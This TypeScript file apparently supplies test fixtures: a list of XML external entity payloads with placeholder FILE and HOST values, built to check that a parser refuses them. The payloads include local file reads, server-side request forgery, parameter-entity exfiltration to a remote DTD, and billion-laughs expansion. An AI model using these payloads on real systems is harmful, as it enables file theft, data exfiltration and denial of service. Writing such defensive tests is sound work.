/**
 * What XML offers to read other files, to reach the network or to grow without end. `FILE` and `HOST` stand for a file that nobody
 * may read and a server that nobody may reach. Each is put in front of a part's root element; `&x;` stands in its text.
 */
export const XML_ATTACKS: readonly [name: string, prolog: string][] = [
  ['a file', '<!DOCTYPE r [<!ENTITY x SYSTEM "file://FILE">]>'],
  ['a file by its path', '<!DOCTYPE r [<!ENTITY x SYSTEM "FILE">]>'],
  ['a file under a public name', '<!DOCTYPE r [<!ENTITY x PUBLIC "-//A//B" "file://FILE">]>'],
  ['an address', '<!DOCTYPE r [<!ENTITY x SYSTEM "http://HOST/x">]>'],
  ['a secure address', '<!DOCTYPE r [<!ENTITY x SYSTEM "https://HOST/x">]>'],
  ['an FTP address', '<!DOCTYPE r [<!ENTITY x SYSTEM "ftp://HOST/x">]>'],
  ['a definition elsewhere', '<!DOCTYPE r SYSTEM "http://HOST/r.dtd">'],
  ['a definition in a file', '<!DOCTYPE r SYSTEM "file://FILE">'],
  ['a parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://HOST/p.dtd"> %p;]>'],
  [
    'a file sent away',
    '<!DOCTYPE r [<!ENTITY % f SYSTEM "file://FILE"><!ENTITY % p SYSTEM "http://HOST/p.dtd"> %p; %f;]>',
  ],
  [
    'a file inside CDATA',
    '<!DOCTYPE r [<!ENTITY % a "<![CDATA["><!ENTITY % f SYSTEM "file://FILE"><!ENTITY % z "]]>"><!ENTITY x "%a;%f;%z;">]>',
  ],
  ['an entity of its own', '<!DOCTYPE r [<!ENTITY x "CANARY">]>'],
  ['an attribute by default', '<!DOCTYPE r [<!ATTLIST r id CDATA "CANARY">]>'],
  ['a notation', '<!DOCTYPE r [<!NOTATION n SYSTEM "http://HOST/n"><!ENTITY x SYSTEM "file://FILE" NDATA n>]>'],
  ['a billion laughs', `<!DOCTYPE r [<!ENTITY l0 "ha">${nested('l', 40)}<!ENTITY x "&l40;">]>`],
  [
    'a billion parameters',
    `<!DOCTYPE r [<!ENTITY % q0 "ha">${nested('% q', 40).replaceAll('&% q', '&#37;q')}<!ENTITY x "ha">]>`,
  ],
  ['a long entity many times', `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(50_000)}"><!ENTITY x "${'&a;'.repeat(5000)}">]>`],
  ['an entity of itself', '<!DOCTYPE r [<!ENTITY x "&x;">]>'],
  ['a style sheet elsewhere', '<?xml-stylesheet type="text/xsl" href="http://HOST/s.xsl"?>'],
  ['a definition behind a comment', '<!-- a --><!DOCTYPE r [<!ENTITY x SYSTEM "file://FILE">]>'],
]

/** Ten times the one before, again and again. */
function nested(name: string, times: number): string {
  return Array.from({ length: times }, (_, at) => `<!ENTITY ${name}${at + 1} "${`&${name}${at};`.repeat(10)}">`).join(
    '',
  )
}
